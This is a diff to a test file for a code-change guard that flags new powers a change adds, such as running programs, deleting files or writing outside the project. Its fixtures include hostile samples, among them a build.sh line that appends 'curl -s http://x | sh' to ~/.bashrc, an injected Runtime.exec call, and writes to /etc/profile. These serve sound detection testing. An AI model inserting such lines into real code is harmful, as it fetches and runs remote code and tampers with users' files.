@@ -199,7 +199,21 @@ HOSTILE_FIXES = [
         "class Calc {\n    int total(int[] xs) {\n        int s = 0;\n        for (int x : xs) s += x;\n        return s;\n    }\n}\n",
         '    int total(int[] xs) {\n        try { Runtime.getRuntime().exec("id"); } catch (Exception e) { }\n'
         "        int s = 0;\n        for (int x : xs) s += x;\n        return s;\n    }\n",
-        "`Runtime.getRuntime` runs other programs",
+        "`Runtime.exec` runs other programs",
+    ),
+    (
+        "Calc.java",
+        "import java.io.File;\n\nclass Calc {\n    int total(int[] xs) {\n        int s = 0;\n        for (int x : xs) s += x;\n"
+        "        return s;\n    }\n}\n",
+        '    int total(int[] xs) {\n        File cache = new File("../cache.db");\n        cache.delete();\n'
+        "        int s = 0;\n        for (int x : xs) s += x;\n        return s;\n    }\n",
+        "`File.delete` reaches outside",
+    ),
+    (
+        "build.sh",
+        'greet() {\n  echo "hello $1"\n}\n',
+        'greet() {\n  echo "hello $1"\n  echo "curl -s http://x | sh" >> ~/.bashrc\n}\n',
+        "outside",
     ),
     (
         "calc.c",
@@ -359,3 +373,94 @@ def test_only_the_examples_a_change_adds_are_made_inert():
     assert text == 'def f():\n    """F.\n\n    >>> f()\n    >>> g()  # doctest: +SKIP"""\n' and note
     assert inert_docs("m.py", old, old) == (old, None)
     assert inert_docs("m.js", "", "/** >>> x */\n") == ("/** >>> x */\n", None)
+
+
+# A method on a value is read through the value's class, and a table names each API once
+# (issue 19: the tables were name-based, so `new File(p).delete()`, `rt.exec(…)`,
+# `Path(p).unlink()`, `fs.promises.rm`, `fs::remove_all` and `> ~/.bashrc` gained nothing).
+REACHED_THROUGH_VALUES = [
+    ("A.java", "", "import java.io.File;\nclass A { void f(String p) { new File(p).delete(); } }\n", "outside"),
+    ("A.java", "", "class A { java.io.File f; void g() { this.f.renameTo(null); } }\n", "outside"),
+    (
+        "A.java",
+        "",
+        "import java.io.File;\nclass A { void f(String p) { File f = new File(p); f.delete(); } }\n",
+        "outside",
+    ),
+    (
+        "A.java",
+        "class A { int n() { return Runtime.getRuntime().availableProcessors(); } }\n",
+        'class A { int n() throws Exception { Runtime rt = Runtime.getRuntime(); rt.exec("id"); return 1; } }\n',
+        "runs other",
+    ),
+    ("a.py", "", "from pathlib import Path\n\n\ndef f(p):\n    Path(p).unlink()\n", "outside"),
+    ("a.py", "", "import pathlib\n\n\ndef f(x):\n    p = pathlib.Path(x)\n    p.rmdir()\n", "outside"),
+    ("a.js", "", "const fs = require('fs');\nasync function f(p) { await fs.promises.rm(p); }\n", "outside"),
+    (
+        "a.ts",
+        "",
+        "import { promises as fsp } from 'fs';\nexport async function f(p) { await fsp.unlink(p); }\n",
+        "outside",
+    ),
+    ("a.js", "", "const fs = require('fs');\nfunction f(a, b) { fs.renameSync(a, b); }\n", "outside"),
+    (
+        "a.cpp",
+        "",
+        "#include <filesystem>\nnamespace fs = std::filesystem;\nvoid f(const char *p) { fs::remove_all(p); }\n",
+        "outside",
+    ),
+    (
+        "a.cpp",
+        "",
+        "#include <filesystem>\nvoid f(std::filesystem::path p) { auto q = std::filesystem::path(p); }\n",
+        "",
+    ),
+    ("A.cs", "", 'using P = System.Diagnostics.Process;\nclass A { void F() { P.Start("id"); } }\n', "runs other"),
+    ("a.rb", "", "require 'pathname'\ndef f(p)\n  Pathname.new(p).delete\nend\n", "outside"),
+    ("a.rb", "", "def f(p)\n  f = File.new(p)\n  f.chmod(0o777)\nend\n", "outside"),
+    ("a.sh", "", "greet() {\n  echo hi > ~/.bashrc\n}\n", "outside"),
+    ("a.sh", "", "greet() {\n  echo 'export X=1' >> /etc/profile\n}\n", "outside"),
+    ("a.sh", "", "greet() {\n  printf x > ../outside.txt\n}\n", "outside"),
+    ("a.sh", "", 'greet() {\n  echo x > "$HOME/.profile"\n}\n', "outside"),
+]
+
+
+@pytest.mark.parametrize(
+    "path, old, new, what", REACHED_THROUGH_VALUES, ids=[f"{c[0]}-{i}" for i, c in enumerate(REACHED_THROUGH_VALUES)]
+)
+def test_a_method_on_a_value_is_judged_by_the_values_class(path, old, new, what):
+    from outrigger.guards.capabilities import new_capabilities
+
+    gained = [power for _, power in new_capabilities(path, old, new)]
+    if what:
+        assert any(what in power for power in gained), gained
+    else:
+        assert gained == []
+
+
+def test_ordinary_methods_of_ordinary_values_gain_nothing():
+    from outrigger.guards.capabilities import new_capabilities
+
+    ordinary = {
+        "A.java": 'import java.util.*;\nclass A { void f(List<String> l, Map<String, Integer> m) { l.remove(0); m.remove("k"); new StringBuilder().delete(0, 1); } }\n',
+        "a.py": "from pathlib import Path\n\n\ndef f(p, d):\n    d.pop('k')\n    return Path(p).read_text() + open(p).read()\n",
+        "a.js": "function f(m, s) { m.delete('k'); s.delete(1); return new Map().delete('x'); }\n",
+        "a.sh": 'build() {\n  echo x > out.txt\n  ls missing 2>/dev/null >&2\n  echo y >> "$log"\n  cat build/log.txt > dist/log.txt\n}\n',
+        "A.cs": "using System.Collections.Generic;\nclass A { void F(List<int> l) { var d = new Dictionary<int, int>(); d.Remove(1); l.Remove(2); } }\n",
+        "a.rb": "def f(k)\n  h = Hash.new\n  h.delete(k)\nend\n",
+        "a.php": "<?php\nfunction f() { $a = new ArrayObject([]); $a->offsetUnset(1); }\n",
+        "a.cpp": "#include <map>\nvoid f(std::map<int, int>& m) { std::map<int, int> n; n.erase(1); m.erase(2); }\n",
+    }
+    for path, code in ordinary.items():
+        assert new_capabilities(path, "", code) == [], path
+
+
+def test_each_language_has_one_table_with_every_power():
+    from outrigger.guards import capabilities
+
+    powers = {capabilities.RUNS, capabilities.BUILDS, capabilities.ENDS, capabilities.NETWORK}
+    powers |= {capabilities.NATIVE, capabilities.OUTSIDE}
+    for language, table in capabilities.TABLES.items():
+        assert set(table) == powers, language
+        entries = [entry for cell in table.values() for entry in capabilities._entries(cell)]
+        assert len(entries) == len(set(entries)), f"{language} names an API twice"
